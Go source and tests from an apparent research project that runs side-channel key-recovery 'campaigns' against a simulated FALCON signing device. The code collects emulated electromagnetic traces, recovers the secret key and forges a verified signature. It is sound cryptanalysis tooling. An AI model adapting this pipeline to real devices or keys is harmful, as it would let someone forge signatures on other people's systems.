	data, err := s.store.LoadKey(c.ID)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			writeError(w, http.StatusConflict, "key not yet persisted")
			return
		}
		writeError(w, http.StatusInternalServerError, err.Error())
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(data)
}

type healthBody struct {
	Status        string  `json:"status"`
	UptimeSeconds float64 `json:"uptime_seconds"`
	GoVersion     string  `json:"go_version"`
	Revision      string  `json:"revision,omitempty"`
	Queued        int     `json:"queued"`
	Campaigns     int     `json:"campaigns"`
	// Fleet carries process-wide fleet counters (tasks, retries, repairs,
	// quarantines) when the daemon runs with a worker fleet attached.
	Fleet map[string]int64 `json:"fleet,omitempty"`
}

func (s *Server) handleHealth(w http.ResponseWriter, r *http.Request) {
	var fleet map[string]int64
	if s.cfg.HealthExtra != nil {
		fleet = s.cfg.HealthExtra()
	}
	writeJSON(w, http.StatusOK, healthBody{
		Status:        "ok",
		UptimeSeconds: obs.Uptime(),
		GoVersion:     runtime.Version(),
		Revision:      obs.BuildRevision(),
		Queued:        s.QueueDepth(),
		Campaigns:     len(s.List()),
		Fleet:         fleet,
	})
}
