package campaign

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

// e2eSpec is the smoke-proven full-recovery configuration: the degree-8
// victim at noise sigma 1.5 with 1200 traces recovers the exact key, and
// the seed derivation (key=1, device=2, acquisition=3) matches the
// supervised end-to-end suite.
func e2eSpec() Spec {
	return Spec{N: 8, Traces: 1200, Noise: 1.5, Seed: 1, Workers: 1}
}

// waitStatus polls a campaign until it reaches a terminal state.
func waitStatus(t *testing.T, c *Campaign) string {
	t.Helper()
	deadline := time.Now().Add(120 * time.Second)
	for time.Now().Before(deadline) {
		if st := c.Status(); terminal(st) {
			return st
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("campaign %s did not finish: %+v", c.ID, c.Snapshot())
	return ""
}

func postSpec(t *testing.T, url string, spec any) *http.Response {
	t.Helper()
	body, err := json.Marshal(spec)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(url+"/campaigns", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func decodeBody[T any](t *testing.T, resp *http.Response) T {
	t.Helper()
	defer resp.Body.Close()
	var v T
	if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return v
}

func TestServerEndToEndOverHTTP(t *testing.T) {
	srv, err := Open(t.TempDir(), Config{})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	defer srv.Kill()
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	resp := postSpec(t, ts.URL, e2eSpec())
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("submit: %s", resp.Status)
	}
	snap := decodeBody[Snapshot](t, resp)
	if snap.ID == "" || snap.Status != StatusQueued {
		t.Fatalf("snapshot = %+v", snap)
	}

	// The result is unavailable while the campaign runs.
	resp, err = http.Get(ts.URL + "/campaigns/" + snap.ID + "/result")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusConflict {
		t.Fatalf("early result fetch: %s, want 409", resp.Status)
	}

	// Long-poll the event stream to the end.
	after, sawPhases, status := 0, map[string]bool{}, ""
	deadline := time.Now().Add(120 * time.Second)
	for {
		if time.Now().After(deadline) {
			t.Fatal("campaign did not finish")
		}
		resp, err := http.Get(fmt.Sprintf("%s/campaigns/%s/events?after=%d&wait=5", ts.URL, snap.ID, after))
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("events: %s", resp.Status)
		}
		body := decodeBody[eventsBody](t, resp)
		for _, e := range body.Events {
			if e.Type == EventPhase {
				sawPhases[e.Phase] = true
				if e.Beam <= 0 {
					t.Errorf("phase %s reported beam %d", e.Phase, e.Beam)
				}
			}
		}
		after, status = body.Next, body.Status
		if terminal(status) && len(body.Events) == 0 {
			break
		}
	}
	if status != StatusDone {
		t.Fatalf("campaign ended %q: %+v", status, srv.List())
	}
	for _, stage := range []string{core.StageExponents, core.StageMantissa, core.StageSigns, core.StageStragglers} {
		if !sawPhases[stage] {
			t.Errorf("no phase event for %s (saw %v)", stage, sawPhases)
		}
	}

	// The result carries a verified forgery and the exact key.
	resp, err = http.Get(ts.URL + "/campaigns/" + snap.ID + "/result")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("result: %s", resp.Status)
	}
	res := decodeBody[Result](t, resp)
	if res.Status != StatusDone || len(res.Signature) == 0 || res.Message == "" {
		t.Fatalf("result = %+v", res)
	}

	// The key endpoint serves the canonical KeyJSON bytes of the victim's
	// true secret key — the attack recovered it exactly.
	priv, _, err := falcon.GenerateKey(8, rng.New(1))
	if err != nil {
		t.Fatal(err)
	}
	want := core.KeyJSON(priv.Fs, priv.Gs)
	resp, err = http.Get(ts.URL + "/campaigns/" + snap.ID + "/key")
	if err != nil {
		t.Fatal(err)
	}
	got := new(bytes.Buffer)
	got.ReadFrom(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("key: %s", resp.Status)
	}
	if !bytes.Equal(got.Bytes(), want) {
		t.Fatalf("key endpoint served %q, want the victim's true key %q", got.Bytes(), want)
	}
}

func TestSubmitValidationOverHTTP(t *testing.T) {
	srv, err := Open(t.TempDir(), Config{})
	if err != nil {
		t.Fatal(err)
	}
	// Deliberately not started: validation happens at admission.
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	cases := []struct {
		name string
		spec map[string]any
	}{
		{"negative workers", map[string]any{"n": 8, "traces": 100, "seed": 1, "workers": -3}},
		{"absurd workers", map[string]any{"n": 8, "traces": 100, "seed": 1, "workers": 100000}},
		{"no traces", map[string]any{"n": 8, "seed": 1}},
		{"unknown field", map[string]any{"n": 8, "traces": 100, "bogus": true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			resp := postSpec(t, ts.URL, tc.spec)
			eb := decodeBody[errorBody](t, resp)
			if resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("status %s, want 400 (%+v)", resp.Status, eb)
			}
			if eb.Error == "" {
				t.Fatal("400 without an error message")
			}
		})
	}

	resp, err := http.Get(ts.URL + "/campaigns/c000042")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown campaign: %s, want 404", resp.Status)
	}
}

func TestTenantQuotaAndQueueBackpressure(t *testing.T) {
	// Not started: everything stays queued, so admission control is
	// exercised deterministically.
	srv, err := Open(t.TempDir(), Config{TenantMax: 1, QueueCap: 1})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	spec := func(tenant string) map[string]any {
		return map[string]any{"tenant": tenant, "n": 8, "traces": 100, "seed": 1}
	}

	resp := postSpec(t, ts.URL, spec("alice"))
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("first submit: %s", resp.Status)
	}

	// Same tenant again: the per-tenant quota trips first (429).
	resp = postSpec(t, ts.URL, spec("alice"))
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("quota submit: %s, want 429", resp.Status)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("429 without Retry-After")
	}
	eb := decodeBody[errorBody](t, resp)
	if !strings.Contains(eb.Error, "quota") {
		t.Errorf("429 error %q does not mention the quota", eb.Error)
	}

	// A different tenant hits the full queue instead (503).
	resp = postSpec(t, ts.URL, spec("bob"))
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("backpressure submit: %s, want 503", resp.Status)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("503 without Retry-After")
	}
	eb = decodeBody[errorBody](t, resp)
	if !strings.Contains(eb.Error, "queue") {
		t.Errorf("503 error %q does not mention the queue", eb.Error)
	}

	// Health reflects the backlog.
	hresp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	hb := decodeBody[healthBody](t, hresp)
	if hb.Status != "ok" || hb.Queued != 1 || hb.Campaigns != 1 {
		t.Fatalf("health = %+v", hb)
	}
}
