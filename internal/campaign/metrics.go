package campaign

import "falcondown/internal/obs"

// Passive observability taps over the campaign service: admission
// outcomes, queue pressure, per-tenant disk, and wall-clock by phase.
// None of this enters a Spec, a state file, a result or a key — the
// restart suite's byte-for-byte artifact comparisons hold with obs on
// or off (the obs.json flight record is deliberately outside them).
var (
	mSubmitted = obs.NewCounter("falcon_campaign_submitted_total",
		"campaigns admitted to the queue")
	mReject429 = obs.NewCounter("falcon_campaign_rejects_total",
		"campaign submissions rejected", obs.Label{Name: "code", Value: "429"})
	mReject503 = obs.NewCounter("falcon_campaign_rejects_total",
		"campaign submissions rejected", obs.Label{Name: "code", Value: "503"})
	mActive = obs.NewGauge("falcon_campaign_active",
		"campaigns currently holding a slot")
	mTerminal = map[string]*obs.Counter{}
	mPhase    = map[string]*obs.Histogram{}
	mWall     = obs.NewHistogram("falcon_campaign_wall_seconds",
		"end-to-end wall-clock of one campaign run (adopted resumes count the rerun only)",
		obs.DurationBuckets)
)

func init() {
	for _, st := range []string{StatusDone, StatusFailed, StatusCancelled} {
		mTerminal[st] = obs.NewCounter("falcon_campaign_terminal_total",
			"campaigns reaching a terminal state",
			obs.Label{Name: "status", Value: st})
	}
	// Phases as campaignctl reports them: acquire streams the corpus,
	// attack is the five-stage recovery, forge+verify close the loop.
	for _, ph := range []string{"acquire", "attack", "forge", "verify"} {
		mPhase[ph] = obs.NewHistogram("falcon_campaign_phase_seconds",
			"wall-clock of one campaign phase", obs.DurationBuckets,
			obs.Label{Name: "phase", Value: ph})
	}
}

// observeTerminal bumps the terminal counter for status (unknown
// statuses are ignored — the set is closed).
func observeTerminal(status string) {
	if c := mTerminal[status]; c != nil {
		c.Inc()
	}
}

// phaseSpan times one campaign phase; unknown names get an inert span.
func phaseSpan(name string) *obs.Span { return obs.StartSpan(mPhase[name]) }

// tenantDiskGauge tracks one tenant's accounted bytes. Tenants are a
// small administrative set, so per-tenant gauges stay bounded.
func tenantDiskGauge(tenant string) *obs.Gauge {
	return obs.NewGauge("falcon_campaign_tenant_disk_bytes",
		"bytes accounted to a tenant (reservations plus settled footprints)",
		obs.Label{Name: "tenant", Value: tenant})
}

// registerQueueDepth points the queue-depth gauge at this server
// (latest server wins, matching GaugeFunc replacement semantics).
func registerQueueDepth(s *Server) {
	obs.NewGaugeFunc("falcon_campaign_queue_depth",
		"campaigns queued and not yet running",
		func() float64 { return float64(s.QueueDepth()) })
}
