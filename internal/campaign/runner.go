package campaign

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"math/bits"
	"os"
	"path/filepath"
	"sync"

	"falcondown/internal/codec"
	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/obs"
	"falcondown/internal/rng"
	"falcondown/internal/supervise"
	"falcondown/internal/tracestore"
)

// forgeSalt derives the forgery's signing randomness from the campaign
// seed, so a re-adopted campaign produces byte-identical result artifacts
// to an uninterrupted run (FALCON signatures are randomized; a campaign's
// must still be a pure function of its spec).
const forgeSalt = 0xf0e6ed

// Result is the success record of a campaign (result.json). The key
// itself is also stored as canonical core.KeyJSON bytes (key.json) for
// byte-comparison against cmd/attack's -key dump.
type Result struct {
	Status string `json:"status"` // always "done"
	// F and G are the recovered secret elements; F/G of the NTRU equation
	// are recomputed from them on demand.
	F []int16 `json:"f"`
	G []int16 `json:"g"`
	// MinPrune and Significant summarize the attack statistics.
	MinPrune    float64 `json:"minPrune"`
	Significant bool    `json:"significant"`
	// Corrected lists values repaired by the exponent error-correction
	// pass.
	Corrected []int `json:"corrected,omitempty"`
	// Message is the text the forged signature signs; Signature is the
	// encoded forgery (verified against the victim public key before the
	// result is written).
	Message    string `json:"message"`
	Signature  []byte `json:"signature"`
	TracesUsed int    `json:"tracesUsed"`
}

// SignatureBase64 renders the forgery for display.
func (r Result) SignatureBase64() string { return base64.StdEncoding.EncodeToString(r.Signature) }

// testHooks are synchronization points for the kill/restart tests: they
// let a test block the runner at a deterministic spot (mid-acquisition,
// between attack phases) before hard-killing the server. Nil in
// production.
type testHooks struct {
	mu      sync.Mutex
	acquire func(id string, count int)
	phase   func(id, stage string)
}

var hooks testHooks

func (h *testHooks) onAcquire(id string, count int) {
	h.mu.Lock()
	f := h.acquire
	h.mu.Unlock()
	if f != nil {
		f(id, count)
	}
}

func (h *testHooks) onPhase(id, stage string) {
	h.mu.Lock()
	f := h.phase
	h.mu.Unlock()
	if f != nil {
		f(id, stage)
	}
}

func (h *testHooks) set(acquire func(string, int), phase func(string, string)) {
	h.mu.Lock()
	h.acquire, h.phase = acquire, phase
	h.mu.Unlock()
}

// runCampaign drives one campaign to a terminal state (or to the point
// where the server was stopped/killed, leaving it re-adoptable).
func (s *Server) runCampaign(c *Campaign) {
	if s.runCtx.Err() != nil {
		return
	}
	// Each campaign runs under its own child context so DELETE can abort
	// just this one; begin refuses campaigns that went terminal while
	// still queued (cancelled entries are popped and dropped here).
	ctx, cancel := context.WithCancel(s.runCtx)
	defer cancel()
	if !c.begin(cancel) {
		return
	}
	mActive.Add(1)
	wall := obs.StartSpan(mWall)
	defer func() {
		mActive.Add(-1)
		wall.End()
		// A campaign interrupted by shutdown is not terminal; the counter
		// map ignores its status.
		observeTerminal(c.Status())
		// The flight record lands in the campaign directory however the
		// run ended — a failed recovery's metrics are exactly the ones
		// worth keeping. It carries timings, so it is deliberately outside
		// the byte-identity comparisons the restart suite runs, and a
		// write failure must not change the campaign's outcome. It adds
		// bytes after the terminal paths trued up the tenant ledger, so a
		// terminal campaign settles once more to charge for it.
		_ = obs.Default().WriteFlightRecord("campaignd", filepath.Join(c.dir, obsFile))
		if terminal(c.Status()) {
			s.settleDisk(c)
		}
	}()
	err := s.execute(ctx, c)
	if err == nil {
		return
	}
	if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
		if c.cancelRequested() && s.runCtx.Err() == nil {
			// A per-campaign cancel, not a server shutdown: the campaign is
			// terminal, its durable state says so, and its tenant slot frees.
			c.setState(StatusCancelled, "", "")
			if !s.killed.Load() {
				if serr := s.store.SaveState(c.ID, c.currentState()); serr != nil {
					c.log.append(Event{Type: EventCancelled, Msg: "state persist failed: " + serr.Error()})
				}
			}
			s.settleDisk(c)
			c.log.append(Event{Type: EventCancelled, Msg: "cancelled by request"})
			return
		}
		// Shutdown: the campaign stays in-flight and re-adoptable.
		return
	}
	c.setState(StatusFailed, "", err.Error())
	if !s.killed.Load() {
		if serr := s.store.SaveState(c.ID, c.currentState()); serr != nil {
			c.log.append(Event{Type: EventFailed, Msg: "state persist failed: " + serr.Error()})
		}
	}
	s.settleDisk(c)
	c.log.append(Event{Type: EventFailed, Msg: err.Error()})
}

// execute runs the two campaign phases: acquire the corpus (resumable),
// then attack it (checkpointed) and forge.
func (s *Server) execute(ctx context.Context, c *Campaign) error {
	pub, dev, err := victim(c.Spec)
	if err != nil {
		return err
	}
	pubPath := filepath.Join(c.dir, pubFile)
	if !exists(pubPath) {
		logn := bits.Len(uint(c.Spec.N)) - 1
		if err := os.WriteFile(pubPath, codec.EncodePublicKey(pub.H, logn), 0o644); err != nil {
			return err
		}
	}
	asp := phaseSpan("acquire")
	if err := s.acquire(ctx, c, dev); err != nil {
		return err
	}
	asp.End()
	return s.attack(ctx, c, pub)
}

// victim deterministically reconstructs the campaign's synthetic victim:
// key from the seed, device noise from seed+1 — the exact derivation
// cmd/tracegen uses, so the corpus is byte-identical to a tracegen run
// with the same parameters.
func victim(spec Spec) (*falcon.PublicKey, *emleak.Device, error) {
	priv, pub, err := falcon.GenerateKey(spec.N, rng.New(spec.Seed))
	if err != nil {
		return nil, nil, err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: spec.Noise}, spec.Seed+1)
	return pub, dev, nil
}

// progressAppender wraps the corpus writer to publish acquisition
// progress. Appends arrive in commit order from a single goroutine, so
// the count is exact.
type progressAppender struct {
	inner tracestore.Appender
	c     *Campaign
	count int
	every int
}

func (a *progressAppender) Append(o emleak.Observation) error {
	if err := a.inner.Append(o); err != nil {
		return err
	}
	a.count++
	if a.count%a.every == 0 {
		a.c.setAcquired(a.count)
		a.c.log.append(Event{Type: EventAcquire, Count: a.count})
		hooks.onAcquire(a.c.ID, a.count)
	}
	return nil
}

// acquire captures (or finishes capturing) the campaign corpus. A
// re-adopted campaign resumes from the last durable chunk: ResumeWriter
// salvages a torn final shard exactly as tracegen -resume does, and the
// (seed, index) derivation regenerates the identical remaining
// observations, so the finished corpus is byte-identical to an
// uninterrupted one.
func (s *Server) acquire(ctx context.Context, c *Campaign, dev *emleak.Device) error {
	spec := c.Spec
	opts := tracestore.Options{ShardObs: spec.ShardObs, ChunkObs: spec.ChunkObs}
	w, done, err := tracestore.ResumeWriter(s.store.TracePath(c.ID), spec.N, opts)
	if err != nil {
		return fmt.Errorf("acquire: %w", err)
	}
	if done > spec.Traces {
		w.Close()
		return fmt.Errorf("acquire: corpus already holds %d traces, more than the requested %d", done, spec.Traces)
	}
	c.setAcquired(done)
	c.setState(StatusAcquiring, "", "")
	if err := s.store.SaveState(c.ID, c.currentState()); err != nil {
		w.Close()
		return err
	}

	var report *supervise.Report
	if done < spec.Traces {
		pa := &progressAppender{inner: w, c: c, count: done, every: max(1, spec.Traces/10)}
		if spec.Supervised() {
			report, err = acquirePool(ctx, dev, spec, done, pa)
		} else {
			err = tracestore.Acquire(ctx, dev, spec.Seed+2, spec.Traces, pa, tracestore.AcquireOptions{
				Workers: spec.Workers,
				Start:   done,
			})
		}
		if err != nil {
			if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
				// Graceful stop: finalize the shard at the last committed
				// chunk so restart resumes instead of salvaging. A hard
				// Kill skips this — that is the crash the salvage path
				// exists for.
				if !s.killed.Load() {
					if _, ierr := w.Interrupt(); ierr == nil {
						s.store.SaveState(c.ID, c.currentState())
					}
				}
				return err
			}
			w.Interrupt() // keep what was committed; the campaign stays resumable
			return fmt.Errorf("acquire: %w", err)
		}
	}
	if err := w.Close(); err != nil {
		return fmt.Errorf("acquire: %w", err)
	}
	c.setAcquired(spec.Traces)
	ev := Event{Type: EventAcquired, Count: spec.Traces}
	if report != nil {
		ev.Suspects = len(report.Health.Suspect)
		ev.Breakers = breakerSummary(report)
	}
	c.log.append(ev)
	return nil
}

// acquirePool routes acquisition through the supervision layer, exactly
// mirroring tracegen's pool mode.
func acquirePool(ctx context.Context, dev *emleak.Device, spec Spec, done int, w tracestore.Appender) (*supervise.Report, error) {
	dists, err := emleak.ParseFlakySpec(spec.Flaky, spec.Devices, spec.Seed)
	if err != nil {
		return nil, err
	}
	pool := make([]supervise.Device, spec.Devices)
	for i := range pool {
		if d, ok := dists[i]; ok {
			pool[i] = emleak.NewFlakyDevice(dev, d, nil)
		} else {
			pool[i] = supervise.NewIdeal(dev)
		}
	}
	return supervise.AcquirePool(ctx, pool, spec.Seed+2, spec.Traces, w, supervise.PoolOptions{
		Workers: spec.Workers,
		Start:   done,
		Timeout: spec.Timeout(),
		Hedge:   spec.Hedge(),
		Breaker: supervise.BreakerConfig{Threshold: spec.Breaker},
	})
}

// breakerSummary compacts the pool report's breaker states into one line.
func breakerSummary(r *supervise.Report) string {
	s := ""
	for i, b := range r.Breakers {
		if i > 0 {
			s += "; "
		}
		s += fmt.Sprintf("device %d: %v", b.Device, b.State)
	}
	return s
}

// watchedStore decorates the attack's checkpoint sidecar store with
// progress events and cooperative cancellation: every phase completion is
// announced after it is durable, and a stop request aborts the attack at
// the next phase boundary — after the checkpoint landed, so nothing is
// lost.
type watchedStore struct {
	inner *core.FileCheckpoint
	s     *Server
	c     *Campaign
	ctx   context.Context
	beams map[string]int
}

func (w *watchedStore) Load() (*core.Checkpoint, error) { return w.inner.Load() }

func (w *watchedStore) Save(ck *core.Checkpoint) error {
	if err := w.inner.Save(ck); err != nil {
		return err
	}
	w.c.setState(StatusAttacking, ck.Stage, "")
	if err := w.s.store.SaveState(w.c.ID, w.c.currentState()); err != nil {
		return err
	}
	w.c.log.append(Event{Type: EventPhase, Phase: ck.Stage, Beam: w.beams[ck.Stage]})
	hooks.onPhase(w.c.ID, ck.Stage)
	if err := w.ctx.Err(); err != nil {
		return err
	}
	return nil
}

// phaseBeams maps each attack phase to the candidate beam width it ran
// with, for the progress stream.
func phaseBeams(cfg core.Config) map[string]int {
	base := cfg.EffectiveTopK()
	escalated := min(base*8, core.MaxBeam)
	return map[string]int{
		core.StageExponents:  base,
		core.StageMantissa:   base,
		core.StageEscalation: escalated,
		core.StageSigns:      base,
		core.StageStragglers: core.MaxBeam,
	}
}

// attack runs the checkpointed extraction over the campaign corpus, then
// forges and verifies a signature with the recovered key and persists the
// result. A re-adopted campaign resumes from its sidecar; the finished
// sidecar is byte-identical to an uninterrupted run's and is kept as the
// campaign's durable attack record.
func (s *Server) attack(ctx context.Context, c *Campaign, pub *falcon.PublicKey) error {
	spec := c.Spec
	corpus, err := tracestore.Open(s.store.TracePath(c.ID))
	if err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	c.setState(StatusAttacking, "", "")
	if err := s.store.SaveState(c.ID, c.currentState()); err != nil {
		return err
	}
	c.log.append(Event{Type: EventAttacking})

	cfg := spec.AttackConfig()
	ws := &watchedStore{
		inner: &core.FileCheckpoint{Path: s.store.SidecarPath(c.ID)},
		s:     s,
		c:     c,
		ctx:   ctx,
		beams: phaseBeams(cfg),
	}
	var priv *falcon.PrivateKey
	var report *core.RecoveryReport
	ksp := phaseSpan("attack")
	if spec.Distributed && s.cfg.Distributor != nil {
		// Fleet execution: corpus sweeps fan out to the worker fleet, named
		// by the campaign's store-relative trace path; the opened corpus is
		// handed along so the fleet's blob service can push authoritative
		// shards to divergent or diskless workers. The checkpointed
		// phases, the sidecar and every result byte are identical to a
		// local run — the differential suite holds at fleet granularity.
		dist := s.cfg.Distributor(filepath.Join(c.ID, traceFile), corpus)
		c.log.append(Event{Type: EventAttacking, Msg: "distributed over the worker fleet"})
		priv, report, err = core.RecoverKeyDistributed(corpus, pub, cfg, ws, dist)
		if fr, ok := dist.(fleetReporter); ok {
			c.log.append(Event{Type: EventFleet, Msg: fr.Summary()})
		}
	} else {
		priv, report, err = core.RecoverKeyResumable(corpus, pub, cfg, ws)
	}
	if err != nil {
		if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
			return err
		}
		msg := err.Error()
		if report != nil && len(report.Failed) > 0 {
			msg = fmt.Sprintf("%v (%d value(s) could not be established; first: %s)",
				err, len(report.Failed), report.Failed[0])
		}
		return errors.New("attack: " + msg)
	}
	ksp.End()

	fsp := phaseSpan("forge")
	sig, err := priv.Sign([]byte(spec.Message), rng.New(rng.DeriveSeed(spec.Seed, forgeSalt)))
	if err != nil {
		return fmt.Errorf("forge: %w", err)
	}
	fsp.End()
	vsp := phaseSpan("verify")
	if err := pub.Verify([]byte(spec.Message), sig); err != nil {
		return fmt.Errorf("forge: signature did not verify: %w", err)
	}
	vsp.End()
	logn := bits.Len(uint(spec.N)) - 1
	enc, err := sig.Encode(logn, pub.Params.SigByteLen)
	if err != nil {
		return fmt.Errorf("forge: %w", err)
	}

	traces := spec.Traces
	if len(report.Values) > 0 {
		traces = report.Values[0].TracesUsed
	}
	res := Result{
		Status:      StatusDone,
		F:           report.F,
		G:           report.G,
		MinPrune:    report.MinPrune,
		Significant: report.Significant,
		Corrected:   report.Corrected,
		Message:     spec.Message,
		Signature:   enc,
		TracesUsed:  traces,
	}
	if err := s.store.SaveResult(c.ID, res, core.KeyJSON(report.F, report.G)); err != nil {
		return err
	}
	c.setState(StatusDone, "", "")
	if err := s.store.SaveState(c.ID, c.currentState()); err != nil {
		return err
	}
	// Settle after the final state write so the trued-up charge matches
	// the bytes actually left in the campaign directory.
	s.settleDisk(c)
	c.log.append(Event{Type: EventDone, Msg: fmt.Sprintf("key recovered (min prune %.3f), forgery verified", report.MinPrune)})
	return nil
}
