package campaign

import (
	"context"
	"errors"
	"testing"
	"time"
)

func qc(id string, priority, seq int) *Campaign {
	return &Campaign{ID: id, Spec: Spec{Priority: priority}, seq: seq, log: newEventLog()}
}

func TestQueuePriorityThenAdmissionOrder(t *testing.T) {
	q := newQueue(10)
	q.push(qc("low-first", 0, 1), false)
	q.push(qc("high", 5, 2), false)
	q.push(qc("low-second", 0, 3), false)
	q.push(qc("high-later", 5, 4), false)

	want := []string{"high", "high-later", "low-first", "low-second"}
	for _, id := range want {
		c, err := q.pop(context.Background())
		if err != nil {
			t.Fatalf("pop: %v", err)
		}
		if c.ID != id {
			t.Fatalf("popped %s, want %s", c.ID, id)
		}
	}
}

func TestQueueCapacityAndForce(t *testing.T) {
	q := newQueue(2)
	if err := q.push(qc("a", 0, 1), false); err != nil {
		t.Fatal(err)
	}
	if err := q.push(qc("b", 0, 2), false); err != nil {
		t.Fatal(err)
	}
	if err := q.push(qc("c", 0, 3), false); !errors.Is(err, ErrQueueFull) {
		t.Fatalf("expected ErrQueueFull, got %v", err)
	}
	// Re-adopted campaigns bypass the bound: they were admitted before the
	// restart and must never be dropped.
	if err := q.push(qc("adopted", 0, 4), true); err != nil {
		t.Fatalf("forced push: %v", err)
	}
	if q.depth() != 3 {
		t.Fatalf("depth = %d, want 3", q.depth())
	}
}

func TestQueuePopBlocksUntilPushOrCancel(t *testing.T) {
	q := newQueue(1)
	got := make(chan *Campaign, 1)
	go func() {
		c, _ := q.pop(context.Background())
		got <- c
	}()
	time.Sleep(10 * time.Millisecond)
	q.push(qc("late", 0, 1), false)
	select {
	case c := <-got:
		if c.ID != "late" {
			t.Fatalf("popped %s", c.ID)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("pop never woke up")
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := q.pop(ctx); !errors.Is(err, context.Canceled) {
		t.Fatalf("expected context.Canceled, got %v", err)
	}
}
