package fft

import "falcondown/internal/fpr"

// FFTInt16 transforms a small-coefficient integer polynomial (such as the
// private elements f, g, F, G or the hashed message c) to the FFT domain.
func FFTInt16(f []int16) []Cplx {
	t := make([]fpr.FPR, len(f))
	for i, v := range f {
		t[i] = fpr.FromInt64(int64(v))
	}
	return FFT(t)
}

// FFTUint16Centered transforms a polynomial with coefficients in [0, q) to
// the FFT domain without recentering (FALCON hashes messages to [0, q)).
func FFTUint16Centered(f []uint16) []Cplx {
	t := make([]fpr.FPR, len(f))
	for i, v := range f {
		t[i] = fpr.FromInt64(int64(v))
	}
	return FFT(t)
}

// RoundToInt16 inverts the FFT and rounds each coefficient to the nearest
// integer, the final step of the key-recovery attack (FALCON's FFT is
// one-to-one, so exact recovery of FFT(f) yields f).
func RoundToInt16(F []Cplx) []int16 {
	f := InvFFT(F)
	out := make([]int16, len(f))
	for i, v := range f {
		out[i] = int16(fpr.Rint(v))
	}
	return out
}

// MulVec returns the coefficient-wise product a⊙b of two FFT vectors.
func MulVec(a, b []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Mul(b[i])
	}
	return out
}

// MulVecTraced returns known⊙secret while reporting every real
// multiplication and addition micro-operation to rec, in coefficient order.
// This is the operation FFT(c)⊙FFT(f) targeted by the paper's attack.
func MulVecTraced(known, secret []Cplx, rec fpr.Recorder) []Cplx {
	out := make([]Cplx, len(known))
	for i := range known {
		out[i] = MulTraced(known[i], secret[i], rec)
	}
	return out
}

// AddVec returns a+b coefficient-wise.
func AddVec(a, b []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Add(b[i])
	}
	return out
}

// SubVec returns a-b coefficient-wise.
func SubVec(a, b []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Sub(b[i])
	}
	return out
}

// NegVec returns -a coefficient-wise.
func NegVec(a []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Neg()
	}
	return out
}

// AdjVec returns the FFT representation of the adjoint polynomial
// f*(x) = f(1/x): the coefficient-wise complex conjugate.
func AdjVec(a []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Conj()
	}
	return out
}

// DivVec returns a/b coefficient-wise.
func DivVec(a, b []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Div(b[i])
	}
	return out
}

// ScaleVec returns a*s coefficient-wise for a real scalar s.
func ScaleVec(a []Cplx, s fpr.FPR) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = a[i].Scale(s)
	}
	return out
}

// MulAdjSelf returns a⊙a*: the (real, self-adjoint) vector of squared
// magnitudes |a_k|².
func MulAdjSelf(a []Cplx) []Cplx {
	out := make([]Cplx, len(a))
	for i := range a {
		out[i] = Cplx{a[i].SqNorm(), fpr.Zero}
	}
	return out
}
