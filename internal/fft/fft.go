// Package fft implements FALCON's Fast Fourier Transform over the emulated
// floating-point type fpr.FPR.
//
// A real polynomial f ∈ R[x]/(x^n+1) (n a power of two) is represented in
// the FFT domain by its evaluations at the n/2 roots w_k = exp(iπ(2k+1)/n),
// k = 0..n/2-1, of x^n+1 with positive imaginary part; the remaining roots
// are complex conjugates and carry no extra information. Polynomial
// multiplication becomes a coefficient-wise (scalar) complex multiplication,
